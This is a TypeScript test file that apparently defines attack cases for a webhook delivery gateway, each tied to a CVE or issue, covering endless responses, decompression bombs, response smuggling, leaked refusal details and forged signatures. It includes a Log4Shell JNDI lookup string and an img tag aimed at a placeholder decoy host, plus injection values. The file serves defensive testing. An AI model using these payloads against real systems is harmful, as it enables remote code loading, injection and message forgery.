/**
 * The delivery of events: an `EVENTS_URL` that two parsers read differently, a receiver that sends the gateway elsewhere
 * or wants its time, memory or secrets, and a message that is changed, repeated or used as a credential.
 *
 * Each attack has an account of its own, `{account}`; its call makes one event. `{decoy}` is a host that must never be
 * contacted, and what is marked as forged must never be in the log.
 */
import { type Attack, FORBIDDEN, NO_EVENT, UNAUTHORIZED } from "../attack.ts";
import type { ReceiverAnswer } from "../event-receiver.ts";
import { EVENTS_URLS } from "./events-urls.ts";
import { answered, call, DELIVERED, failed, respond } from "./webhook-attack.ts";
import { WEBHOOK_REDIRECTS } from "./webhook-redirects.ts";

const SLOW = "CVE-2023-36461, Mastodon";
const HEADERS = "CVE-2023-38039, curl";
const DECOMPRESSION = "CVE-2022-32206, curl";
const BODY = "BradGroux/veritas-kanban#610";
const COOKIES = "CVE-2022-32205, curl";
const LOGGED = "egg82/fetcharr#45";
const STORED = "jestasecurity/thumper#33";
const TIME_NOT_SIGNED = "HearthSim/HSReplay.net#342";
const SHORT_SIGNATURE = "CVE-2024-21491, Svix";
const LOG4SHELL = "CVE-2021-44228, Log4j";
const DESYNC = "RFC 9112, section 9.2";
const RETRY = "RFC 9110, section 10.2.3";

const LARGE = "forged ".repeat(9_000);
const ENDLESS = { bytes: `${LARGE.length.toString(16)}\r\n${LARGE}\r\n`, everyMs: 20 };

const endlessBody = (status: string, fields = ""): ReceiverAnswer => ({
  bytes: `HTTP/1.1 ${status}\r\n${fields}Transfer-Encoding: chunked\r\n\r\n`,
  endless: ENDLESS,
});

/** The name of an imported key, whose answer has no secret. */
const named = (name: string, incident: string, text: string): Attack => ({
  ...call(name, incident),
  method: "POST",
  target: "/control/v1/accounts/{account}/keys/import",
  body: `{"keys":[{"sha256":"{newSha256}","mode":"test","name":${JSON.stringify(text)}}]}`,
  outcome: { statuses: [200], deliveries: { ...DELIVERED, messages: ["key.created"] } },
});

const TIME_AND_MEMORY: readonly Attack[] = [
  {
    ...answered(
      "an answer whose headers never end has ten seconds",
      SLOW,
      [{ bytes: "HTTP/1.1 200 OK\r\n", endless: { bytes: "X-More: 1\r\n", everyMs: 500 } }],
      failed("timeout"),
    ),
    isSlow: true,
  },
  {
    ...answered(
      "an answer that is announced again and again has ten seconds",
      SLOW,
      [{ bytes: "", endless: { bytes: "HTTP/1.1 102 Processing\r\n\r\n", everyMs: 500 } }],
      failed("timeout"),
    ),
    isSlow: true,
  },
  {
    ...answered("a receiver that never answers has ten seconds", SLOW, [{ bytes: "" }], failed("timeout")),
    isSlow: true,
  },
  answered("an acknowledgement whose body trickles for ever is complete with its status", SLOW, [
    { ...endlessBody("200 OK"), endless: { bytes: "1\r\nx\r\n", everyMs: 200 } },
  ]),
  answered("an acknowledgement with an endless body is not read", BODY, [endlessBody("200 OK")]),
  answered("a refusal with an endless body is not read", BODY, [endlessBody("500 No")], failed(500)),
  answered("an acknowledgement that announces a petabyte is not read", BODY, [
    { bytes: `HTTP/1.1 200 OK\r\nContent-Length: 1000000000000000\r\n\r\n${LARGE}` },
  ]),
  answered("a compressed answer is not unpacked", DECOMPRESSION, [
    endlessBody("200 OK", "Content-Encoding: gzip, gzip, gzip, gzip, gzip, gzip, gzip, gzip\r\n"),
  ]),
  answered(
    "an answer with endless headers is no answer",
    HEADERS,
    [{ bytes: "HTTP/1.1 200 OK\r\n", endless: { bytes: `X-More: ${LARGE}\r\n`, everyMs: 10 } }],
    failed("unreachable"),
  ),
  answered(
    "a cookie is not kept for the next attempt",
    COOKIES,
    [respond("500 No", "Set-Cookie: a=forged; Path=/\r\n".repeat(50)), respond("204 No Content")],
    { ...DELIVERED, messages: ["account.updated", "account.updated"], failures: [500] },
  ),
  answered(
    "a Retry-After of no time at all is not obeyed",
    RETRY,
    [respond("429 Again", "Retry-After: 0\r\n")],
    failed(429),
  ),
  answered(
    "a Retry-After of a lifetime is not obeyed",
    RETRY,
    [respond("503 Later", "Retry-After: 2147483647\r\n")],
    failed(503),
  ),
  answered(
    "a receiver that says it is gone gets the message again",
    RETRY,
    [respond("410 Gone")],
    failed(410),
  ),
];

const SECRETS: readonly Attack[] = [
  answered("the reason phrase of a refusal is not logged", LOGGED, [respond("500 forged")], failed(500)),
  answered(
    "the body of a refusal is not logged",
    STORED,
    [respond("400 Bad Request", "", { body: '{"event":"forged"}\n{"event":"forged"}' })],
    failed(400),
  ),
  answered(
    "headers of a refusal are not logged",
    LOGGED,
    [respond("400 Bad Request", "X-Request-Id: forged\r\nServer: forged\r\n")],
    failed(400),
  ),
  answered(
    "the URL of a receiver that closes the connection is not logged",
    LOGGED,
    [{ bytes: "", closes: true }],
    failed("unreachable"),
  ),
  answered(
    "an answer that is no HTTP is not logged",
    LOGGED,
    [{ bytes: "forged 200 OK\r\n\r\n", closes: true }],
    failed("unreachable"),
  ),
  answered(
    "a demand for a password gets none",
    "RFC 9110, section 11.6.1",
    [respond("401 Unauthorized", 'WWW-Authenticate: Basic realm="forged"\r\n'), respond("204 No Content")],
    { ...DELIVERED, messages: ["account.updated", "account.updated"], failures: [401] },
  ),
  answered(
    "half a status line is no acknowledgement",
    DESYNC,
    [{ bytes: "HTTP/1.1 20", closes: true }],
    failed("unreachable"),
  ),
  answered(
    "a second answer behind a refusal acknowledges nothing",
    DESYNC,
    [respond("500 No", "", { after: "HTTP/1.1 204 No Content\r\n\r\n" })],
    failed(500),
  ),
  answered(
    "an upgrade is no acknowledgement",
    "CVE-2018-1002105, Kubernetes",
    [respond("101 Switching Protocols", "Upgrade: websocket\r\nConnection: Upgrade\r\n")],
    failed(101),
  ),
  named("a name that looks up an address is sent as text", LOG4SHELL, "$" + "{jndi:ldap://{decoy}/forged}"),
  named("a name that ends the message's text stays in it", "CVE-2019-9740, Python", '"},"type":"forged"'),
  named(
    "a name with markup of an entity is sent as text",
    "CVE-2021-44228, Log4j",
    "&forged; <img src=//{decoy}>",
  ),
  call("an actor is in no header of the message", "CVE-2019-9740, Python", [["Octopost-Actor", "forged: 1"]]),
];

const altered = (name: string, incident: string, change: NonNullable<Attack["altered"]>): Attack => ({
  ...call(name, incident),
  altered: change,
});

const CHANGED: readonly Attack[] = [
  altered("a message with a later time is not genuine", TIME_NOT_SIGNED, { "webhook-timestamp": "{soon}" }),
  altered("a message without a time is not genuine", "own-pay/OwnPay#296", { "webhook-timestamp": "" }),
  altered("a message under another id is not genuine", "librefang/librefang#3878", {
    "webhook-id": "evt_00000000000000000000000000000000",
  }),
  altered("a message with a space behind it is not genuine", "Skyvern-AI/skyvern#7987", { body: "{same} " }),
  altered("half a signature is none", SHORT_SIGNATURE, { "webhook-signature": "{half}" }),
  altered("an empty signature is none", SHORT_SIGNATURE, { "webhook-signature": "v1," }),
  {
    ...call("a message is no alert", "Skyvern-AI/skyvern#7987"),
    method: "POST",
    target: "/control/v1/secret-scanning/github",
    headers: [
      ["Content-Type", "application/json"],
      ["Webhook-Id", "{message.id}"],
      ["Webhook-Timestamp", "{message.time}"],
      ["Webhook-Signature", "{message.signature}"],
      ["Github-Public-Key-Signature", "{message.signature}"],
    ],
    body: "{message.body}",
    outcome: { ...FORBIDDEN, deliveries: NO_EVENT },
  },
  {
    ...call("the secret of the messages is no control token", "CVE-2022-4342, GitLab"),
    headers: [["Authorization", "Bearer {eventsSecret}"]],
    outcome: { ...UNAUTHORIZED, deliveries: NO_EVENT },
  },
];

export const WEBHOOKS: readonly Attack[] = [
  ...EVENTS_URLS,
  ...WEBHOOK_REDIRECTS,
  ...TIME_AND_MEMORY,
  ...SECRETS,
  ...CHANGED,
];
